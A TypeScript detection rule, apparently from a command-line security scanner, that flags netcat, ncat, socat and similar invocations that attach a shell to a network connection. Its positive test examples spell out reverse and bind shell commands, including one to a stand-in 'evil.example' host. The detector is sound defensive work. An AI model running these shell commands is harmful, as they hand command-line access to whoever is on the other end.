import { baseName, shellName } from '../names.ts';
import { short } from '../phrases.ts';
import type { Indicator } from './types.ts';

/** A program is attached to a connection. */
export const execOnSocket: Indicator = {
  id: 'exec_on_socket',
  points: 70,
  hard: true,
  in_strings: true,
  mitre: ['T1059.004', 'T1095'],
  title: 'Program attached to a connection',
  description:
    'An option of the tool gives the peer a program: nc -e and -c, ncat --sh-exec and --lua-exec, the trailing command of toybox nc, EXEC, SYSTEM and SHELL of socat, tcpsvd, telnetd -l.',
  evaluate({ invocation }) {
    const attached = invocation.attached.find((entry) => entry.on_socket);
    if (attached) {
      const program = short(attached.program, 120);
      const isShell = program.split(/\s+/).some((word) => shellName(baseName(word)) !== undefined);
      return {
        ...(isShell ? {} : { points: 65 }),
        evidence: `${attached.option} ${program}`,
        why: `its arguments attach ${program} to a network connection (${attached.option}), which gives the peer a command line`,
      };
    }
    if (invocation.serves !== 'shell') return undefined;
    return { evidence: 'serves a shell', why: 'it gives a command line to whoever connects' };
  },
  examples: {
    fires: [
      { run: 'nc -e /bin/sh x.localhost.evil.example 1' },
      { run: 'nc -nve /bin/bash 198.51.100.7 443' },
      { run: 'socat TCP-L:1,fork exec:sh' },
      { run: 'ncat --sh-ex "bash -i" 203.0.113.9 443' },
      { run: 'toybox nc -p 1234 -tL sh -l' },
    ],
    silent: [
      { run: 'nc -c shop.example 443' },
      { run: 'socat - TCP:db:5432' },
      { run: 'nc db.example.com 5432' },
    ],
  },
};
